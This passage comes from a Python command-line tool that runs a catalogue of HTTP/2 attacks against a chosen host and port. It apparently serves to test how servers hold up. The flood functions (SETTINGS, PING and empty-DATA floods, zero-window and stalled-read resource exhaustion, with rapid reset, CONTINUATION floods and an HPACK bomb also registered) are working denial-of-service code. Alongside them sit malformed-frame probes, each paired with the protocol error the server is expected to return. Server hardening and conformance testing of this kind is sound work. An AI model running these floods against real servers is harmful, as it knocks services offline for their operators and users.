    c.out.params["decoded_bytes"] = refs * (value_bytes + len("x-bomb"))


@_attack("settings_flood", count=20000)
def settings_flood(c, deadline, count):
    """SETTINGS frames, one after the other; their ACKs are read."""
    c.out.params["sent"] = _batched(
        c, deadline, count, lambda i: settings_frame([(S_MAX_CONCURRENT_STREAMS, 100 + i % 2)]),
        batch=500)


@_attack("ping_flood", count=20000, read=False)
def ping_flood(c, deadline, count, read):
    """PINGs without reading the ACKs while sending."""
    c.out.params["sent"] = _batched(c, deadline, count, lambda i: ping(struct.pack(">Q", i)),
                                    batch=500, read=read)


@_attack("empty_data_flood", count=20000, path="/")
def empty_data_flood(c, deadline, count, path):
    """One POST stream, then empty DATA frames without END_STREAM."""
    sid = c.new_stream()
    c.send(frame(HEADERS, END_HEADERS, sid, c.headers_block(path, "POST")), deadline)
    c.out.params["sent"] = _batched(c, deadline, count, lambda i: frame(DATA, 0, sid),
                                    batch=500)


@_attack("zero_window", path="/", wait=15.0, settings=((S_INITIAL_WINDOW_SIZE, 0),))
def zero_window(c, deadline, path):
    """Window 0 for every stream and never a WINDOW_UPDATE: a GET whose response can't be
    sent. The PING probe after it shows the connection itself still works."""
    c.auto_window = False
    sid = c.new_stream()
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, c.headers_block(path)), deadline)


def _tcp_state(sock):
    """The kernel's TCP state of our socket (1 ESTABLISHED, 7 CLOSE, 8 CLOSE_WAIT, ...)."""
    try:
        return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
    except OSError:
        return None


TCP_STATES = {1: "ESTABLISHED", 7: "CLOSE", 8: "CLOSE_WAIT"}


def stall_reading(host, port, tls=False, server_name=None, path="/", wait=15.0,
                  drain_bytes=256 << 20, time_limit=DEFAULT_TIME_LIMIT):
    """A GET of a large path with every window wide open, then not one byte read for wait
    seconds, watching our socket's TCP state; then what the server sent is drained (up to
    drain_bytes, 5 s) to see whether it had closed."""
    out = Outcome("stall_reading", {"path": path, "wait": wait})
    t_start = time.monotonic()
    try:
        c = Conn(host, port, tls, server_name, outcome=out)
    except (OSError, ssl.SSLError, ConnectionError) as e:
        out.notes.append("cannot connect: %s" % e)
        return out
    try:
        c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
        c.handshake([(S_INITIAL_WINDOW_SIZE, 0x7FFFFFFF)])
        c.start_clock()
        deadline = time.monotonic() + time_limit
        sid = c.new_stream()
        c.send(window_update(0, 0x7FFFFFFF - 65535) +
               frame(HEADERS, END_HEADERS | END_STREAM, sid, c.headers_block(path)), deadline,
               count=2)
        # Unread, the server's FIN would wait behind its data; a PING every second (not read
        # either) makes a server that has closed its socket answer with a TCP reset.
        end = time.monotonic() + wait
        state = _tcp_state(c.sock)
        next_ping, n = time.monotonic() + 1.0, 0
        while time.monotonic() < end:
            if time.monotonic() >= next_ping:
                next_ping += 1.0
                try:
                    c.sock.send(ping(struct.pack(">Q", n)))
                    n += 1
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                    pass
                except (OSError, ssl.SSLError) as e:
                    out.notes.append("PING during the stall failed after %.2fs: %s"
                                     % (c.now(), errno.errorcode.get(e.errno or 0, str(e))
                                        if not isinstance(e, ssl.SSLError) else e.reason))
                    if out.closed_after is None:
                        out.closed_after = c.now()
                    break
            s = _tcp_state(c.sock)
            if s != state:
                out.notes.append("TCP state %s after %.2fs" % (TCP_STATES.get(s, s), c.now()))
                state = s
                if s in (7, 8) and out.closed_after is None:
                    out.closed_after = c.now()
                if s == 7:
                    break
            time.sleep(0.05)
        stall_close = out.closed_after
        before = out.received_bytes
        c.read_for(5.0, until=lambda: out.received_bytes - before > drain_bytes)
        out.notes.append("drained %d bytes (%d of DATA)" % (out.received_bytes - before,
                                                             out.data_bytes))
        if out.closed and stall_close is None:
            out.notes.append("the close was seen only when draining, behind the unread data")
            out.closed_after = None
        elif stall_close is not None:
            out.closed_after = stall_close
    except ConnectionError as e:
        out.notes.append(str(e))
    finally:
        c.close()
        out.elapsed = time.monotonic() - t_start
    return out


stall_reading.attack = "stall_reading"
stall_reading.expected = None
stall_reading.params = ("path", "wait", "drain_bytes")

# -- invalid frames and states


@_attack("data_on_stream_0", expected="connection PROTOCOL_ERROR")
def data_on_stream_0(c, deadline):
    c.send(frame(DATA, 0, 0, b"hello"), deadline)


@_attack("headers_even_stream", expected="connection PROTOCOL_ERROR")
def headers_even_stream(c, deadline):
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 2, c.headers_block()), deadline)


@_attack("window_update_zero", expected="connection PROTOCOL_ERROR")
def window_update_zero(c, deadline):
    c.send(window_update(0, 0), deadline)


@_attack("window_update_zero_stream", expected="stream PROTOCOL_ERROR", path="/")
def window_update_zero_stream(c, deadline, path):
    sid = c.new_stream()
    c.send(frame(HEADERS, END_HEADERS, sid, c.headers_block(path, "POST")) +
           window_update(sid, 0), deadline, count=2)


@_attack("window_update_overflow", expected="connection FLOW_CONTROL_ERROR")
def window_update_overflow(c, deadline):
    c.send(window_update(0, 0x7FFFFFFF) + window_update(0, 0x7FFFFFFF), deadline, count=2)


@_attack("frame_too_large", expected="connection FRAME_SIZE_ERROR", path="/")
def frame_too_large(c, deadline, path):
    limit = c.out.server_settings.get("MAX_FRAME_SIZE", 16384)
    if limit >= (1 << 24) - 1:
        c.out.notes.append("not applicable: the server allows frames of 2^24-1 bytes")
        c.out.applicable = False
        return
    block = c.headers_block(path)
    block += hpack_literal("x-pad", b"p" * (limit + 1 - len(block) - 9))
    block = block[:limit + 1]
    c.out.params["frame_bytes"] = len(block)
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, c.new_stream(), block), deadline)


@_attack("ping_bad_length", expected="connection FRAME_SIZE_ERROR")
def ping_bad_length(c, deadline):
    c.send(frame(PING, 0, 0, b"1234567"), deadline)


@_attack("stream_id_backwards", expected="connection PROTOCOL_ERROR|STREAM_CLOSED", path="/")
def stream_id_backwards(c, deadline, path):
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 5, c.headers_block(path)) +
           frame(HEADERS, END_HEADERS | END_STREAM, 3, c.headers_block(path)), deadline,
           count=2)


@_attack("continuation_without_headers", expected="connection PROTOCOL_ERROR")
def continuation_without_headers(c, deadline):
    c.send(frame(CONTINUATION, END_HEADERS, 1, c.headers_block()), deadline)


@_attack("headers_interrupted", expected="connection PROTOCOL_ERROR")
def headers_interrupted(c, deadline):
    c.send(frame(HEADERS, END_STREAM, 1, c.headers_block()) + ping(), deadline, count=2)


@_attack("rst_idle_stream", expected="connection PROTOCOL_ERROR")
def rst_idle_stream(c, deadline):
    c.send(rst_stream(7), deadline)


@_attack("data_idle_stream", expected="connection PROTOCOL_ERROR|STREAM_CLOSED")
def data_idle_stream(c, deadline):
    c.send(frame(DATA, END_STREAM, 1, b"hello"), deadline)


@_attack("data_after_end_stream", expected="stream STREAM_CLOSED", path="/")
def data_after_end_stream(c, deadline, path):
    # HEADERS with END_STREAM and DATA in one write: the stream is half-closed (remote), not
    # yet closed by the response, when the DATA arrives.
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, c.headers_block(path)) +
           frame(DATA, 0, 1, b"more"), deadline, count=2)


@_attack("data_exceeds_window", expected="stream FLOW_CONTROL_ERROR", path="/")
def data_exceeds_window(c, deadline, path):
    """A POST; once the server's first WINDOW_UPDATEs are in (0.3 s), one byte more than the
    stream's window, in one write and in frames as large as the server allows (one frame with
    nginx). A server that opened the window further while the DATA was on its way may
    legitimately accept it: the outcome is then "not applicable" (not conclusive)."""
    settings = c.out.server_settings
    sid = c.new_stream()
    c.send(frame(HEADERS, END_HEADERS, sid, c.headers_block(path, "POST")), deadline)
    c.read_for(0.3)
    window = settings.get("INITIAL_WINDOW_SIZE", 65535) + c.out.window_updates.get(sid, 0)
    conn_window = 65535 + c.out.window_updates.get(0, 0)
    max_frame = settings.get("MAX_FRAME_SIZE", 16384)
    if window > 16 << 20:
        c.out.notes.append("not applicable: stream window %d" % window)
        c.out.applicable = False
        return
    if conn_window <= window:
        c.out.expected = "connection FLOW_CONTROL_ERROR"
    c.out.params.update(window=window, connection_window=conn_window)
    frames, left = [], min(window, conn_window) + 1
    while left > 0:
        n = min(left, max_frame, 1 << 20)
        frames.append(frame(DATA, 0, sid, b"d" * n))
        left -= n
    before = c.out.window_updates.get(sid, 0)
    c.send(b"".join(frames), deadline, count=len(frames))
    c.flow_check = (sid, before)


@_attack("priority_self_dependency", expected="stream PROTOCOL_ERROR")
def priority_self_dependency(c, deadline):
    c.send(frame(PRIORITY, 0, 1, struct.pack(">IB", 1, 15)), deadline)


@_attack("settings_enable_push_2", expected="connection PROTOCOL_ERROR")
def settings_enable_push_2(c, deadline):
    c.send(settings_frame([(S_ENABLE_PUSH, 2)]), deadline)


@_attack("settings_window_too_big", expected="connection FLOW_CONTROL_ERROR")
def settings_window_too_big(c, deadline):
    c.send(settings_frame([(S_INITIAL_WINDOW_SIZE, 0x80000000)]), deadline)


@_attack("settings_frame_size_small", expected="connection PROTOCOL_ERROR")
def settings_frame_size_small(c, deadline):
    c.send(settings_frame([(S_MAX_FRAME_SIZE, 16383)]), deadline)


@_attack("bad_preface", expected="connection PROTOCOL_ERROR", no_handshake=True)
def bad_preface(c, deadline):
    c.send(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + settings_frame(), deadline)


def _malformed(name, fields, data=None, cl=None):
    @_attack(name, expected="stream PROTOCOL_ERROR (or 4xx)", path="/")
    def fn(c, deadline, path):
        hdrs = []
        for k, v in fields:
            hdrs.append((k, path if k == ":path" else c.authority[0] if k == ":authority"
                         else v))
        block = b"".join(hpack_literal(k, v) for k, v in hdrs)
        sid = c.new_stream()
        if data is None:
            c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, block), deadline)
        else:
            c.send(frame(HEADERS, END_HEADERS, sid, block) +
                   frame(DATA, END_STREAM, sid, data), deadline, count=2)
    fn.__name__ = name
    return fn


_BASE = [(":method", "GET"), (":scheme", "http"), (":authority", ""), (":path", "")]
malformed_uppercase = _malformed("malformed_uppercase", _BASE + [("X-Upper", "1")])
malformed_connection_header = _malformed("malformed_connection_header",
                                         _BASE + [("connection", "keep-alive")])
malformed_no_method = _malformed("malformed_no_method", _BASE[1:])
malformed_pseudo_after = _malformed("malformed_pseudo_after",
                                    _BASE[:3] + [("x-a", "1")] + _BASE[3:])
malformed_te = _malformed("malformed_te", _BASE + [("te", "gzip")])
malformed_content_length = _malformed(
    "malformed_content_length",
    [(":method", "POST")] + _BASE[1:] + [("content-length", "10")], data=b"12345")

ATTACKS = collections.OrderedDict((f.attack, f) for f in [
    rapid_reset, continuation_flood, continuation_flood_big, hpack_bomb, settings_flood,
    ping_flood, empty_data_flood, zero_window, stall_reading,
    data_on_stream_0, headers_even_stream, window_update_zero, window_update_zero_stream,
    window_update_overflow, frame_too_large, ping_bad_length, stream_id_backwards,
    continuation_without_headers, headers_interrupted, rst_idle_stream, data_idle_stream,
    data_after_end_stream, data_exceeds_window, priority_self_dependency,
    settings_enable_push_2, settings_window_too_big, settings_frame_size_small, bad_preface,
    malformed_uppercase, malformed_connection_header, malformed_no_method,
    malformed_pseudo_after, malformed_te, malformed_content_length,
])
FLOODS = ("rapid_reset", "continuation_flood", "continuation_flood_big", "hpack_bomb",
          "settings_flood", "ping_flood", "empty_data_flood", "zero_window", "stall_reading")


def run(host, port, names=None, tls=False, server_name=None, **kw):
    """Plays the named attacks (default: all of ATTACKS) one after the other; [Outcome]."""
    outs = []
    for name in names or ATTACKS:
        fn = ATTACKS[name]
        outs.append(fn(host, port, tls=tls, server_name=server_name, **kw.get(name, {})))
    return outs


# ---------------------------------------------------------------------------------------------
# An ordinary request, with h2.connection

def get(host, port, path="/", tls=False, server_name=None, timeout=10.0, headers=()):
    """One GET over a new h2 connection with python3-h2's state machine; returns (status,
    body bytes, response headers as [(name, value)])."""
    raw = socket.create_connection((host, port), timeout=timeout)
    sock = raw
    if tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(raw, server_hostname=server_name or host)
    try:
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                    header_encoding="utf-8"))
        conn.initiate_connection()
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":scheme", "https" if tls else "http"),
                                (":authority", "%s:%d" % (host, port)), (":path", path)]
                          + list(headers), end_stream=True)
        sock.sendall(conn.data_to_send())
        status, body, hdrs = None, bytearray(), []
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                data = sock.recv(65536)
            except socket.timeout:
                break
            if not data:
                raise ConnectionError("the server closed the connection before a complete "
                                      "response")
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError as e:
                raise ConnectionError("not HTTP/2 (%s): %r" % (e, data[:80]))
            for ev in events:
                if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                    hdrs = list(ev.headers)
                    status = int(dict(hdrs)[":status"])
                elif isinstance(ev, h2.events.DataReceived) and ev.stream_id == sid:
                    body += ev.data
                    conn.acknowledge_received_data(ev.flow_controlled_length, sid)
                elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                    conn.close_connection()
                    sock.sendall(conn.data_to_send())
                    return status, bytes(body), hdrs
                elif isinstance(ev, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    raise ConnectionError("request failed: %s" % ev)
            sock.sendall(conn.data_to_send())
        raise ConnectionError("no complete response within %.0fs" % timeout)
    finally:
        sock.close()


def main():
    ap = argparse.ArgumentParser(description="Play HTTP/2 attacks against HOST:PORT (see the "
                                             "module docstring).")
    ap.add_argument("target", nargs="?", help="HOST:PORT")
    ap.add_argument("attacks", nargs="*", help="names (default: all); --list lists them")
    ap.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (not verified)")
    ap.add_argument("--server-name", help="SNI to send with --tls")
    ap.add_argument("--path", help="the path of the requests (default /)")
    ap.add_argument("--list", action="store_true")
    args = ap.parse_intermixed_args()
    if args.list or not args.target:
        for name, fn in ATTACKS.items():
            print("%-30s %s" % (name, fn.expected or "(attack)"))
        return 0
    host, _, port = args.target.rpartition(":")
    for name in args.attacks or ATTACKS:
        if name not in ATTACKS:
            ap.error("unknown attack %s" % name)
        kw = {"path": args.path} if args.path and "path" in ATTACKS[name].params else {}
        out = ATTACKS[name](host.strip("[]"), int(port), tls=args.tls,
                            server_name=args.server_name, **kw)
        print(out.summary(), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
